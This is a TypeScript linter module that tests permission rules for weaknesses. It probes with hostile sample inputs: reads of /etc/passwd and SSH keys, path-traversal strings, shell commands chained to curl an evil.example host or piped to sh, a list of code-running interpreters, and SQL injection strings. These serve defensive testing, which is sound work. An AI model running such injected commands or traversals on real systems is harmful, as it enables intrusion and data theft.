/** Finds problems in rules on paths, commands, amounts and lists. */
import { normalizePath, type Value, writeValue } from '../../kit/index.js';
import type { LintDraft } from './lint-finding.js';
import type { RuleAcceptance } from './rule-acceptance.js';

const PATHS: readonly string[] = ['/etc/passwd', '/home/user/.ssh/id_rsa', '/zq7/other.bin'];

/** Returns an accepted path; null if the rule is not about paths. */
export function findPathSample({ samples }: RuleAcceptance): string | null {
  return (
    samples.find((text) => text.startsWith('/') && text.lastIndexOf('/') > 0) ??
    samples.find((text) => text.startsWith('/')) ??
    null
  );
}

/** Returns a path that is accepted in any folder, because only its file name is checked; null if there is none. */
function findUnrootedSample({ samples, admits }: RuleAcceptance): string | null {
  const names = samples.filter((text) => text !== '' && !text.includes('/'));
  return names.map((name) => `/zq7/${name}`).find(admits) ?? null;
}

export function* lintPaths(language: RuleAcceptance): Generator<LintDraft> {
  const { admits, kind, openness } = language;
  if (PATHS.every(admits)) {
    if (openness !== 'deny-list') yield { code: 'any-path', facts: { example: PATHS[0] as string } };
    return;
  }
  const sample = findPathSample(language) ?? findUnrootedSample(language);
  if (sample === null) return;
  const folder = sample.slice(0, sample.lastIndexOf('/'));
  const name = sample.slice(folder.length + 1);
  const climbs = [
    `${folder}/../../../etc/${name}`,
    `${folder}/../etc/${name}`,
    `${sample}/../../../etc/passwd`,
  ];
  const climb = climbs.find((text) => admits(text) && !isBelow(folder, text));
  if (climb !== undefined) {
    yield { code: 'pattern-no-path-rule', facts: { kind, example: climb } };
    if (admits(`${folder}/a/b/${name}`)) yield { code: 'pattern-crosses-slashes', facts: { kind } };
    return;
  }
  if ([`${folder}/%2e%2e/secrets`, `${sample}/%2e%2e/secrets`].some(admits))
    yield { code: 'subpath-no-decoding' };
  if ([`${folder}/..;/secrets`, `${sample}/..;/secrets`].some(admits))
    yield { code: 'subpath-path-parameters' };
}

function isBelow(folder: string, path: string): boolean {
  const normal = normalizePath(path);
  return normal !== null && folder !== '' && normal.startsWith(`${folder}/`);
}

const SECOND_COMMANDS: readonly string[] = [
  '; curl https://evil.example',
  ' && curl https://evil.example',
  ' | sh',
  ' $(curl https://evil.example)',
  ' `curl https://evil.example`',
  '\ncurl https://evil.example',
];
/** Names of programs that execute their input as code. */
const INTERPRETERS: readonly string[] = [
  ...[
    'bash evil',
    'sh evil',
    'zsh evil',
    'python evil.py',
    'python3 evil.py',
    'node evil.js',
    'perl evil.pl',
  ],
  ...['ruby evil.rb', 'php evil.php', 'powershell evil', 'sudo evil', 'env evil', 'xargs evil', 'eval evil'],
  ...['ssh evil.example', 'docker run evil', 'nohup evil', 'busybox evil', 'awk evil', 'make evil'],
  ...[
    'find . -exec evil',
    'tar --to-command=evil -xf a',
    'timeout 9 evil',
    'nice evil',
    'doas evil',
    'su evil',
  ],
  ...['npx evil', 'deno run evil', 'pwsh evil', 'watch evil', 'flock a evil', 'strace evil', 'parallel evil'],
];

export function* lintCommands(language: RuleAcceptance): Generator<LintDraft> {
  const { admits, openness, samples } = language;
  if (openness === 'open') {
    yield { code: 'any-command' };
    return;
  }
  const second = samples.flatMap((text) => SECOND_COMMANDS.map((more) => `${text}${more}`)).find(admits);
  if (second !== undefined) yield { code: 'command-injection', facts: { example: second } };
  const interpreter = INTERPRETERS.find(admits);
  if (interpreter !== undefined && openness === 'limited')
    yield { code: 'interpreter-allowed', facts: { example: interpreter } };
}

export function* lintSql({ admits, openness, samples }: RuleAcceptance): Generator<LintDraft> {
  if (openness === 'open') {
    yield { code: 'any-command' };
    return;
  }
  const second = samples
    .flatMap((text) => [
      `${text}; DROP TABLE users`,
      `${text};DELETE FROM users`,
      `${text} UNION SELECT secret FROM keys`,
    ])
    .find(admits);
  if (second !== undefined) yield { code: 'command-injection', facts: { example: second } };
}

const TOO_MUCH: readonly Value[] = [1_000_000_000_000n, 1e12, '1000000000000', '1000000000000.00'];
const BELOW_ZERO: readonly Value[] = [-1n, -1];
const ORDINARY: readonly Value[] = [0n, 1n, 1, 10n];

export function* lintAmounts({ admitsValue, openness }: RuleAcceptance): Generator<LintDraft> {
  const most = TOO_MUCH.find(admitsValue);
  if (most !== undefined) yield { code: 'amount-without-maximum', facts: { example: writeValue(most) } };
  else if (ORDINARY.some(admitsValue)) yield { code: 'no-running-total' };
  if (openness === 'limited' && BELOW_ZERO.some(admitsValue)) yield { code: 'amount-below-zero' };
}

/** Finds problems with block lists and empty lists in the rules on any argument. */
export function* lintLists(language: RuleAcceptance): Generator<LintDraft> {
  const { openness, denied, admitsValue, samples, admitsList, kind } = language;
  if (openness === 'deny-list') {
    yield {
      code: 'word-block-list',
      facts: { denied: writeValue(denied) },
    };
    const other = denied === null ? undefined : spellingsOf(denied).find(admitsValue);
    if (other !== undefined)
      yield {
        code: 'not-one-of-exact',
        facts: { kind, example: writeValue(other) },
      };
  }
  const takesLists = samples.some((text) => admitsList([text]));
  if (openness === 'limited' && takesLists && admitsList([]))
    yield { code: 'all-of-nothing', facts: { kind } };
}

/** Returns the same identifier with other spellings or types. */
function spellingsOf(value: Value): readonly Value[] {
  if (typeof value === 'bigint') return [String(value), Number(value) + 0.5];
  if (typeof value !== 'string') return [];
  const number = /^\d{1,15}$/.test(value) ? [BigInt(value)] : [];
  return [...number, value.toUpperCase(), value.toLowerCase(), `${value} `].filter(
    (other) => other !== value,
  );
}
